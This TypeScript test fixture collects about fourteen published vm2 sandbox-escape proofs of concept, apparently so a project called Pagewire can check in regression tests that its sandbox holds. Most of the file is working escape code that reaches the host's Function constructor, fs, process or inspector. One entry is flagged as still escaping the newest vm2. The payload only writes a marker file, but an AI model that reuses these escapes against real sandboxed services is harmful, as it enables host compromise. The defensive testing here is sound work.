/**
 * The published sandbox escapes of vm2, each rewritten as a Pagewire server script. A proof of
 * concept ends by calling `report(text)`: `ESCAPED via …` when its trick reached the host (after
 * `escapeWith` wrote the marker file through the host's own `fs`), `held: …` otherwise. A script
 * cannot write that marker by itself: `escapeWith` needs a Function constructor that compiles
 * code (the sandbox's refuses: `eval: false`) and a `process` with `getBuiltinModule` (the
 * sandbox's has none).
 *
 * `escapedOn`: the vm2 version on which this very source escaped, run raw in a NodeVM set up as
 * Pagewire's (`eval: false`, `wasm: false`, the forbidden built-ins denied), and `heldOn` the
 * release that fixed it; see test/vm2-escapes.test.ts.
 */
export interface Vm2Poc {
  /** The advisory: CVE id when there is one, with its GHSA id. */
  id: string;
  /** The trick, in one line. */
  trick: string;
  escapedOn: string;
  heldOn: string;
  /**
   * Set while the latest vm2 still lets the trick through: why. Where Pagewire owns the thread
   * (a worker) its own wall holds it (runner/code-constructors.ts) and the test must pass; in an
   * app's own thread (`workers: 0` as a library) only vm2 stands, and the test runs and reports it
   * (`todo`) without failing the suite. Remove it once a vm2 release holds the trick.
   */
  open?: string;
  /** The script's body, run after `escapeWith`, `HOST_PAYLOAD`, `MARKER` and `report` exist. */
  source: string;
}

/** What runs on the host when a trick reached it: the marker file, and a property on its global. */
export const HOST_PAYLOAD =
  '(marker, how) => { process.getBuiltinModule("fs").writeFileSync(marker, how); ' +
  'globalThis.__pagewireVm2Escape = how; }';

/** The host global a successful escape sets (in the server's own thread with `workers: 0`). */
export const HOST_GLOBAL = '__pagewireVm2Escape';

/** A whole script: the payload's helpers, then the proof of concept, any throw reported as held. */
export function pocScript(poc: Vm2Poc, marker: string): string {
  return `const MARKER = ${JSON.stringify(marker)};
const HOST_PAYLOAD = ${JSON.stringify(HOST_PAYLOAD)};
function escapeWith(F, how) {
  F('return ' + HOST_PAYLOAD)()(MARKER, how);
  return 'ESCAPED via ' + how;
}
const report = (text) => echo(String(text));
// Node's default, under which the advisories were written (Pagewire's prelude keeps 30 frames):
// the tricks that overflow the stack format a stack trace at every frame.
Error.stackTraceLimit = 10;
try {
${poc.source}
} catch (error) {
  report('held: threw ' + error);
}
`;
}

export const VM2_POCS: readonly Vm2Poc[] = [
  {
    id: 'CVE-2023-29017 (GHSA-7jxr-cg7f-gpgv)',
    trick:
      "a rejection nobody handles has its stack prepared by the script's Error.prepareStackTrace with host CallSites",
    escapedOn: '3.9.14',
    heldOn: '3.9.15',
    source: `let outcome = 'held: prepareStackTrace saw no host frames';
const previous = Error.prepareStackTrace;
Error.prepareStackTrace = (error, frames) => {
  try { outcome = escapeWith(frames.constructor.constructor, 'CVE-2023-29017'); } catch (e) { outcome = 'held: ' + e; }
  return 'no stack';
};
(async () => { throw new Error('nobody handles this rejection'); })();
await new Promise((resolve) => setTimeout(resolve, 50));
Error.prepareStackTrace = previous;
report(outcome);`,
  },
  {
    id: 'CVE-2023-29199 (GHSA-xj72-wvfv-8985)',
    trick: 'a catch parameter named a$tmpname made the transformer skip the sanitising of a host stack overflow',
    escapedOn: '3.9.14 and 3.9.15',
    heldOn: '3.9.16',
    source: `let aVM2_INTERNAL_TMPNAME = {};
function overflow() { new Error().stack; overflow(); }
try { overflow(); report('held: no error'); }
catch (a$tmpname) {
  try { report(escapeWith(a$tmpname.constructor.constructor, 'CVE-2023-29199')); } catch (e) { report('held: ' + e); }
}`,
  },
  {
    id: 'CVE-2023-30547 (GHSA-ch3r-j5x3-6q2m)',
    trick: 'a thrown Proxy overflows the stack in getPrototypeOf, inside the host code that sanitises it',
    escapedOn: '3.9.14 to 3.9.16',
    heldOn: '3.9.17',
    source: `const overflowing = () => (function deeper() { new Error().stack; deeper(); })();
const thrown = new Proxy({}, { getPrototypeOf() { overflowing(); } });
try { throw thrown; }
catch ({ constructor: c }) {
  try { report(escapeWith(c.constructor, 'CVE-2023-30547')); } catch (e) { report('held: ' + e); }
}`,
  },
  {
    id: 'CVE-2023-32314 (GHSA-whpj-8f3w-67p5)',
    trick: 'stack formatting calls error.name.toString, a Proxy, with an arguments array of the host realm',
    escapedOn: '3.9.14 to 3.9.17',
    heldOn: '3.9.18',
    source: `let outcome = 'held: toString never saw host arguments';
const error = new Error('poc');
error.name = { toString: new Proxy(() => 'x', { apply(target, self, args) {
  try { outcome = escapeWith(args.constructor.constructor, 'CVE-2023-32314'); } catch (e) { outcome = 'held: ' + e; }
  return 'x';
} }) };
try { void error.stack; } catch (e) { outcome += ' / ' + e; }
report(outcome);`,
  },
  {
    id: 'CVE-2023-37466 (GHSA-cchq-frgv-rjh5)',
    trick: "a Promise species of the script's own receives an async function's host stack overflow unsanitised",
    escapedOn: '3.9.14 to 3.9.19',
    heldOn: '3.10.0',
    source: `let outcome = 'held: the species saw no host error';
async function overflowing() { (function deeper() { new Error().stack; deeper(); })(); }
const promise = overflowing();
promise.constructor = { [Symbol.species]: class OwnPromise {
  constructor(executor) {
    executor(() => {}, (error) => {
      try { outcome = escapeWith(error.constructor.constructor, 'CVE-2023-37466'); }
      catch (e) { outcome = 'held: ' + e; }
    });
  }
} };
try { promise.then(); } catch (e) { outcome += ' / ' + e; }
await new Promise((resolve) => setTimeout(resolve, 20));
report(outcome);`,
  },
  {
    id: 'CVE-2023-37903 (GHSA-g644-9gfx-q4q4)',
    trick:
      "WebAssembly.compileStreaming has Node inspect the script's object outside the bridge: " +
      'its custom inspect gets host inspect',
    // With `wasm: true` only: Pagewire's `wasm: false` refuses the compile before Node inspects.
    escapedOn: '3.9.19 to 3.10.2 (wasm enabled)',
    heldOn: '3.10.3',
    source: `let outcome = 'held: custom inspect never ran with host inspect';
const bait = {
  [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {
    try { outcome = escapeWith(inspect.constructor, 'CVE-2023-37903'); } catch (e) { outcome = 'held: ' + e; }
    return 'bait';
  },
  valueOf: undefined,
  constructor: undefined,
};
try { await WebAssembly.compileStreaming(bait); }
catch (e) { if (outcome.startsWith('held: custom')) outcome += ' (' + e + ')'; }
report(outcome);`,
  },
  {
    id: 'CVE-2026-22709 (GHSA-99p7-6v5w-7xg8)',
    trick:
      "an async function's promise is the realm's own: its catch() got the host TypeError of a Symbol-named " +
      "error's stack",
    escapedOn: '3.9.14 to 3.9.16, and 3.10.0',
    heldOn: '3.10.1',
    source: `const error = new Error('poc');
error.name = Symbol('poc');
let outcome = 'held: the async function did not reject';
await (async () => error.stack)().catch((e) => {
  try { outcome = escapeWith(e.constructor.constructor, 'CVE-2026-22709'); } catch (x) { outcome = 'held: ' + x; }
});
report(outcome);`,
  },
  {
    id: 'GHSA-qvjj-29qf-hp7p',
    trick: 'Object.defineProperty replaced, vm2 cannot reset a promise species, which gets the host TypeError',
    escapedOn: '3.9.14 to 3.10.2',
    heldOn: '3.10.3',
    source: `let outcome = 'held: the species saw no host error';
const realDefineProperty = Object.defineProperty;
Object.defineProperty = () => {};
try {
  const promise = (async () => { const e = new Error('poc'); e.name = Symbol('poc'); return e.stack; })();
  promise.constructor = { [Symbol.species]: class OwnPromise {
    constructor(executor) {
      executor(() => {}, (error) => {
        try { outcome = escapeWith(error.constructor.constructor, 'GHSA-qvjj-29qf-hp7p'); }
        catch (e) { outcome = 'held: ' + e; }
      });
    }
  } };
  try { promise.then(); } catch (e) { outcome += ' / ' + e; }
} finally {
  Object.defineProperty = realDefineProperty;
}
await new Promise((resolve) => setTimeout(resolve, 20));
report(outcome);`,
  },
  {
    id: 'CVE-2026-44008 (GHSA-9qj6-qjgg-37qq)',
    trick: "a setter on Array.prototype[0] catches the saved state of vm2's Array-species defence, a host proxy",
    escapedOn: '3.11.0 and 3.11.1',
    heldOn: '3.11.2',
    source: `let outcome = 'held: the setter saw no saved state';
const argument = [];
Object.defineProperty(Array.prototype, 0, { configurable: true, get() { return undefined; }, set(record) {
  try {
    argument.f = Buffer.prototype.inspect;
    if (record && record.arr) outcome = escapeWith(record.arr.f.constructor.constructor, 'GHSA-9qj6-qjgg-37qq');
  } catch (e) { outcome = 'held: ' + e; }
} });
try { new Buffer(argument); } catch (e) { if (outcome.startsWith('held: the')) outcome += ' (' + e.message + ')'; }
finally { delete Array.prototype[0]; }
report(outcome);`,
  },
  {
    id: 'GHSA-9vg3-4rfj-wgcm',
    trick: 'a thrown object without prototype comes back as a proxy whose set trap unwraps host functions onto it',
    escapedOn: '3.11.0 and 3.11.1',
    heldOn: '3.11.2',
    source: `let outcome = 'held: no host function reached the object';
const thrown = { __proto__: null };
try {
  try { throw thrown; } catch (e) { e.f = Buffer.prototype.inspect; }
  outcome = escapeWith(thrown.f.constructor, 'GHSA-9vg3-4rfj-wgcm');
} catch (e) { outcome = 'held: ' + e; }
report(outcome);`,
  },
  {
    id: 'GHSA-2cm2-m3w5-gp2f',
    trick: "vm2's internal state (handleException, host import) read from globalThis through a computed key",
    // Reached on 3.11.1 (its members are frozen, and its import refuses there): the test asserts
    // it stays out of reach, as the advisory's fix does.
    escapedOn: '3.9.14 to 3.11.1 (state reached)',
    heldOn: '3.11.2',
    source: `let outcome = 'held: the internal state is not on globalThis';
const state = globalThis['VM2_INTERNAL_STATE' + '_DO_NOT_USE_OR_PROGRAM_WILL_FAIL'];
if (state) {
  outcome = 'REACHED the internal state: ' + Object.keys(state).join(', ');
  try {
    const hostProcess = (await state.import('node:process')).default;
    outcome = escapeWith(hostProcess.constructor.constructor, 'GHSA-2cm2-m3w5-gp2f');
  } catch (e) { outcome += ' (' + e + ')'; }
}
report(outcome);`,
  },
  {
    id: 'CVE-2026-45411 (GHSA-248r-7h7q-cr24)',
    trick:
      'yield* with i.return(thenable): a throw in then() comes back as a value; at the right depth a host RangeError',
    escapedOn: '3.9.14 to 3.12.2, the latest (the fix of 3.11.3 does not hold this variant)',
    heldOn: 'not yet',
    open:
      'escapes on vm2 3.12.2, the latest: the fix of 3.11.3 holds the depth a binary search ends on, not the ' +
      'depths around it, where the stack runs out inside host code',
    source: `class Mine extends Error {}
function overflow(depth) { if (depth > 0) overflow(depth - 1); const e = new Mine(); void e.stack; throw e; }
async function* delegating() {
  const asValue = (v) => ({ value: v, done: false });
  yield* { [Symbol.asyncIterator]: () => ({ next: asValue, throw: asValue }) };
}
async function captured(throwing) {
  const iterator = delegating();
  await iterator.next();
  const result = await iterator.return({ then(resolve) { throwing(); resolve(); } });
  return result.value;
}
function isHostRangeError(value) { return value && value.name === 'RangeError' && !(value instanceof RangeError); }
// The deepest depth that still throws our own error, then the depths around it: at a few of
// them the stack runs out in host code on the way.
let low = 0;
let high = 200000;
while (low < high) {
  const depth = (low + high) >> 1;
  if ((await captured(() => overflow(depth))) instanceof Mine) low = depth + 1; else high = depth;
}
let outcome = 'held: no host error came back';
for (let depth = low - 64; depth < low + 64; depth++) {
  let value;
  try { value = await captured(() => overflow(depth)); } catch (e) { outcome = 'held: rejected (' + e + ')'; break; }
  if (!isHostRangeError(value)) continue;
  try { outcome = escapeWith(value.constructor.constructor, 'GHSA-248r-7h7q-cr24'); }
  catch (e) { outcome = 'held: ' + e; }
  break;
}
report(outcome);`,
  },
  {
    id: 'GHSA-947f-4v7f-x2v8',
    trick: "builtin: ['*'] allowed module and vm, whose Module._load and runInThisContext run on the host",
    // With `builtin: ['*']` only: Pagewire's forbiddenModules refuses both, whatever vm2 does.
    escapedOn: "3.9.14 to 3.10.5 (builtin: ['*'])",
    heldOn: '3.11.0',
    source: `const outcomes = [];
try {
  require('module')._load('process').getBuiltinModule('fs').writeFileSync(MARKER, 'GHSA-947f-4v7f-x2v8 module');
  outcomes.push('ESCAPED via require("module")._load');
} catch (e) { outcomes.push('held: ' + e.message); }
try {
  require('vm').runInThisContext('(' + HOST_PAYLOAD + ')')(MARKER, 'GHSA-947f-4v7f-x2v8 vm');
  outcomes.push('ESCAPED via require("vm").runInThisContext');
} catch (e) { outcomes.push('held: ' + e.message); }
report(outcomes.join(' | '));`,
  },
  {
    id: 'CVE-2026-47140',
    trick: "built-ins missing from vm2's deny list: 'process' (host getBuiltinModule) and 'inspector/promises'",
    escapedOn: '3.9.14 to 3.11.3 (inspector/promises: Pagewire forbids process, not it)',
    heldOn: '3.11.4',
    source: `const outcomes = [];
try {
  const hostProcess = require('process');
  hostProcess.getBuiltinModule('fs').writeFileSync(MARKER, 'CVE-2026-47140 process');
  outcomes.push('ESCAPED via require("process")');
} catch (e) { outcomes.push('held: ' + e.message); }
try {
  const { Session } = require('inspector/promises');
  const session = new Session();
  session.connect();
  const expression = '(' + HOST_PAYLOAD + ')(' + JSON.stringify(MARKER) + ', "CVE-2026-47140 inspector")';
  await session.post('Runtime.evaluate', { expression });
  outcomes.push('ESCAPED via require("inspector/promises")');
} catch (e) { outcomes.push('held: ' + e.message); }
report(outcomes.join(' | '));`,
  },
];
